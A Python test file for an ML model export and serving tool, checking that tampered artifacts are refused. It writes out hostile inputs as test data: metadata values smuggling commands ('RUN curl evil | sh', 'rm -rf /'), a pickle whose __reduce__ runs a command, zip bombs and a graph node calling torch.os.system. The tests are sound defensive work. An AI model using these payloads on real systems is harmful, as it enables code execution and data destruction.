"""Artifacts by somebody who can seal them: whatever they say, they are refused in a sentence before anything of them
runs."""

from __future__ import annotations

import asyncio
import io
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from tests.export.made import RECIPE, artifact, verification
from tests.serve.made import artifact as served
from tests.serve.made import shade
from trueloop.checkpoint.store import MANIFEST, seal_json, unseal_json
from trueloop.cli.main import main
from trueloop.errors import BadArtifact, BadCheckpoint, Misuse
from trueloop.export.catalogue import find_exporter, runner_of
from trueloop.export.exporter import Array, FakeRunner
from trueloop.export.folder import read_artifact, staged_folder, verify_files
from trueloop.export.graph_schema import NotAllowed, allowed_graph, is_arithmetic
from trueloop.export.safetensors import Safetensors
from trueloop.export.safety import UNPACKED, safe_graph, safe_script
from trueloop.results.artifact import FILE
from trueloop.serve.batching import Batcher
from trueloop.serve.limits import Limits, Refused
from trueloop.serve.server import listen


def placed(place: Path) -> Path:
    with staged_folder(place) as folder:
        (folder.aside / "model.onnx").write_bytes(b"weights")
        folder.seal(artifact(verification=verification()))
        folder.publish()
    return place


# -- what stands in artifact.json --

COLUMN = {"name": "length", "kind": "number", "mean": 1.0, "spread": 2.0}


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("name", 3),
        ("target", ["onnx"]),
        ("task", None),
        ("classes", [1, 2]),
        ("notes", [None]),
        ("versions", []),
        ("versions", {"trueloop": "0"}),
        ("versions/torch", 2.13),
        ("versions/torch", "2.13.0\nRUN curl evil | sh\n#"),
        ("versions/onnx", '1"; rm -rf /; "'),
        ("target", "onnx\nRUN true"),
        ("runtime/package", "onnxruntime\nRUN true"),
        ("runtime/version", "1.18 && true"),
        ("licence", "MIT"),
        ("licence/model", 3),
        ("run", None),
        ("files", []),
        ("inputs", []),
        ("outputs", []),
        ("inputs/0/name", 3),
        ("inputs/0/dtype", "object"),
        ("inputs/0/dtype", "float32; import os"),
        ("inputs/0/shape", [None, "1", 3, 4]),
        ("inputs/0/shape", [None, 0, 3, 4]),
        ("inputs/0/shape", [None, -1, 3, 4]),
        ("inputs/0/shape", [None, True, 3, 4]),
        ("inputs/0/shape", [None, 10**30, 3, 4]),
        ("inputs/0/most", [None, None]),
        ("inputs/0/most", [0.5, None, None, None]),
        ("preprocessing", []),
        ("preprocessing", {}),
        ("preprocessing/kind", None),
        ("preprocessing/size", [3]),
        ("preprocessing/size", [3, 10**9]),
        ("preprocessing/channels", 2),
        ("preprocessing/channels", []),
        ("preprocessing/range", None),
        ("preprocessing/range", [0, "255"]),
        ("preprocessing", {"kind": "tokens", "tokens": "many"}),
        ("preprocessing", {"kind": "table"}),
        ("preprocessing", {"kind": "table", "columns": []}),
        ("preprocessing", {"kind": "table", "columns": [{**COLUMN, "mean": "1"}]}),
        ("preprocessing", {"kind": "table", "columns": [{**COLUMN, "kind": "category"}]}),
        ("preprocessing", {"kind": "table", "columns": [COLUMN, "length"]}),
        ("runtime/package", ""),
    ],
)
def test_a_description_of_other_types_is_refused_where_it_is_read(tmp_path: Path, path: str, value: Any) -> None:
    place = placed(tmp_path / "out")
    told: Any = unseal_json((place / FILE).read_bytes(), "")
    *way, last = path.split("/")
    at = told
    for word in way:
        at = at[int(word) if word.isdecimal() else word]
    at[last] = value
    (place / FILE).write_bytes(seal_json(told))
    with pytest.raises(BadArtifact, match=r"Nothing was run"):
        read_artifact(place)


def test_a_table_and_tokens_that_say_what_they_are_can_be_read(tmp_path: Path) -> None:
    place = placed(tmp_path / "out")
    told = unseal_json((place / FILE).read_bytes(), "")
    category = {"name": "colour", "kind": "category", "categories": ["red"]}
    for good in (
        {"kind": "table", "columns": [COLUMN, category]},
        {"kind": "tokens", "tokens": 256},
        {"kind": "tensors"},
    ):
        (place / FILE).write_bytes(seal_json({**told, "preprocessing": good}))
        assert read_artifact(place).preprocessing == good


@pytest.mark.parametrize("name", [FILE, "model.onnx"])
@pytest.mark.parametrize("kind", ["pipe", "endless"])
def test_what_would_be_read_for_ever_is_refused(tmp_path: Path, name: str, kind: str) -> None:
    place = placed(tmp_path / "out")
    (place / name).unlink()
    if kind == "pipe":
        os.mkfifo(place / name)
    else:
        (place / name).symlink_to("/dev/zero")
    with pytest.raises(BadArtifact, match=r"cannot be read \(it is not a regular file\)\. Nothing was run"):
        verify_files(read_artifact(place))


def test_brackets_without_end_are_damage(tmp_path: Path) -> None:
    place = placed(tmp_path / "out")
    (place / FILE).write_bytes(b"[" * 200_000)
    with pytest.raises(BadArtifact, match="not JSON with a hash"):
        read_artifact(place)
    with pytest.raises(BadCheckpoint, match="not JSON with a hash"):
        unseal_json(b'{"a":' * 100_000, MANIFEST)


def test_weights_that_bring_a_recipe_along_are_refused(tmp_path: Path) -> None:
    witness = tmp_path / "it-ran"
    (tmp_path / "recipe.py").write_text(f"import os\nos.mkdir({str(witness)!r})\n{RECIPE}", encoding="utf-8")
    told = {"recipe": str(tmp_path / "recipe.py"), "arguments": {}, "settings": {}}
    made = artifact(
        folder=tmp_path,
        target="safetensors",
        run={"origin": told, "facts": {"inputs": [], "classes": []}, "layouts": []},
    )
    with pytest.raises(
        BadArtifact, match=r"not safe to load and was refused; nothing in it was executed: .*recipe\.py"
    ):
        Safetensors().open(made)
    assert not witness.exists()


class Evil:
    """Runs a command when it is unpickled."""

    def __init__(self, witness: Path) -> None:
        self.witness = witness

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.witness),)


@pytest.mark.parametrize("target", ["pt2", "torchscript", "onnx"])
@pytest.mark.parametrize("disguise", ["pickle", "archive", "old"])
def test_a_pickle_by_another_name_is_refused_and_never_read(tmp_path: Path, target: str, disguise: str) -> None:
    witness, held = tmp_path / "it-ran", io.BytesIO()
    if disguise == "pickle":
        pickle.dump(Evil(witness), held)
    else:
        torch.save({"weights": Evil(witness)}, held, _use_new_zipfile_serialization=disguise == "archive")
    file = find_exporter(target).file
    with staged_folder(tmp_path / "out") as folder:
        (folder.aside / file).write_bytes(held.getvalue())
        folder.seal(artifact(target=target, files={file: {}}, verification=verification()))
        folder.publish()
    with pytest.raises(BadArtifact) as caught:
        runner_of(read_artifact(tmp_path / "out"))
    assert "othing" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert not witness.exists()


# -- archives --


@pytest.mark.parametrize("look", [safe_graph, safe_script], ids=["graph", "script"])
def test_an_archive_that_unpacks_to_far_more_is_refused_before_it_is_unpacked(
    tmp_path: Path, look: Callable[[Path], io.BytesIO]
) -> None:
    name = "m/models/model.json" if look is safe_graph else "m/code/a.py"
    with zipfile.ZipFile(tmp_path / "a", "w", zipfile.ZIP_DEFLATED) as bomb, bomb.open(name, "w") as out:
        for _ in range(UNPACKED // (1 << 20) + 1):
            out.write(bytes(1 << 20))
    assert (tmp_path / "a").stat().st_size < 1 << 20
    with pytest.raises(BadArtifact, match="it unpacks to far more bytes"):
        look(tmp_path / "a")


def test_files_that_lie_over_each_other_are_refused(tmp_path: Path) -> None:
    """One piece of bytes, listed many times."""
    with zipfile.ZipFile(tmp_path / "a", "w") as bomb:
        bomb.writestr("m/data/weights/weight_0", bytes(4096))
        first = bomb.infolist()[0]
        for number in range(1, 40):
            again = zipfile.ZipInfo(f"m/data/weights/weight_{number}")
            again.file_size, again.compress_size, again.CRC, again.header_offset = (
                first.file_size,
                first.compress_size,
                first.CRC,
                0,
            )
            bomb.filelist.append(again)
            bomb.NameToInfo[again.filename] = again
        bomb._didModify = True  # type: ignore[attr-defined]
    with pytest.raises(BadArtifact, match="it unpacks to far more bytes"):
        safe_graph(tmp_path / "a")


def test_what_torch_packs_is_let_through(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "a", "w") as made:
        made.writestr("m/code/a.py", b"return x\n" * 500, zipfile.ZIP_DEFLATED)
        made.writestr("m/data/0", bytes(4096))
    safe_script(tmp_path / "a")


# -- graphs --


def _refusal(target: str, *arguments: dict[str, Any]) -> str:
    """Of a graph with one node. Empty: it is allowed."""
    inputs = [{"name": "", "arg": argument, "kind": 1} for argument in arguments]
    node = {"target": target, "inputs": inputs, "outputs": [], "metadata": {}}
    try:
        allowed_graph({"graph_module": {"graph": {"nodes": [node]}}})
    except NotAllowed as error:
        return str(error)
    return ""


def test_an_operation_that_is_handed_a_function_is_refused() -> None:
    """torch finds any function of any module that it has imported by such a name, as in torch.os.system, and `wrap`
    calls it."""
    said = _refusal("torch.ops.higher_order.wrap", {"as_operator": "torch.os.system"}, {"as_string": "true"})
    assert said == "calls torch.os.system"
    assert _refusal("torch.ops.higher_order.out_dtype", {"as_operator": "torch.ops.aten.mm.default"}) == ""


@pytest.mark.parametrize(
    ("target", "trusted"),
    [
        ("torch.ops.aten.__and__.Tensor", True),
        ("torch.ops.aten.__ior__.Scalar", True),
        ("torch.ops.aten._softmax.default", True),
        ("torch.ops.aten.__class__", False),
        ("torch.ops.aten.__getattribute__", False),
        ("torch.ops.aten.__reduce__.x", False),
    ],
)
def test_what_python_knows_of_every_object_is_no_operation(target: str, trusted: bool) -> None:
    assert _refusal(target) == ("" if trusted else f"calls {target}")


@pytest.mark.parametrize(
    "text",
    [
        "GreaterThan(Symbol('u0', integer=True), Integer(0))",
        "StrictLessThan(s0, 4)",
        "Equality(s0, 4)",
        "Pow(s0, 2)",
        "s0**2",
    ],
)
def test_comparisons_and_squares_of_sizes_are_arithmetic(text: str) -> None:
    assert is_arithmetic(text)


@pytest.mark.parametrize(
    "text", ["9**9**9**9", "Pow(9, Pow(9, 9))", "Pow(Integer(9), Integer(999999999))", "1 << 10**9", "s0**s1", "Pow(9)"]
)
def test_a_tower_of_powers_is_computed_by_nobody(text: str) -> None:
    assert not is_arithmetic(text)


# -- a model whose answers are of the whole batch --


@pytest.mark.parametrize(
    ("answer", "refused"),
    [
        (lambda *_: [np.float32(1.0)], 500),
        (lambda *inputs: [shade(*inputs)[0][:1].mean(0)], 500),
        (lambda *inputs: [*shade(*inputs), np.float32(1.0)], 0),
        (lambda *inputs: [*shade(*inputs), np.zeros((5, 2), np.float32)], 0),
    ],
    ids=["a number", "a row", "a number beside", "a table beside"],
)
def test_a_server_outlives_answers_that_it_cannot_part(answer: Callable[..., list[Array]], refused: int) -> None:
    """Its only thread would end, and everybody wait for it."""

    async def ask() -> list[Any]:
        batcher = Batcher(served(), lambda: FakeRunner(answer), Limits(timeout=30.0), lambda *_: None)
        started = asyncio.Event()
        batcher.start(started.set)
        await started.wait()
        sample = (np.zeros((1, 3, 4), np.uint8),)
        try:
            return [await asyncio.gather(batcher.submit([sample]), return_exceptions=True) for _ in range(2)]
        finally:
            batcher.stop()
            await asyncio.to_thread(batcher.join)

    for (given,) in asyncio.run(ask()):
        if refused:
            assert isinstance(given, Refused)
            assert given.status == refused
        else:
            assert np.array_equal(given[0][0], shade(np.zeros((1, 1, 3, 4), np.uint8))[0][0])


# -- words of a command --


def test_a_host_that_is_no_word_is_not_every_host() -> None:
    with pytest.raises(Misuse, match=r"every address of this machine\. Nothing was served"):
        listen("", 0)


def test_a_step_that_is_none_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "steps_shades.py").write_text(RECIPE, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["train", "steps_shades.py"]) == 0
    for word in ("9" * 5000, "²", "-1"):
        assert main(["export", "runs/shades", "--to", "torchscript", f"--checkpoint={word}"]) == 4
        assert "write best, last or a step" in capsys.readouterr().err
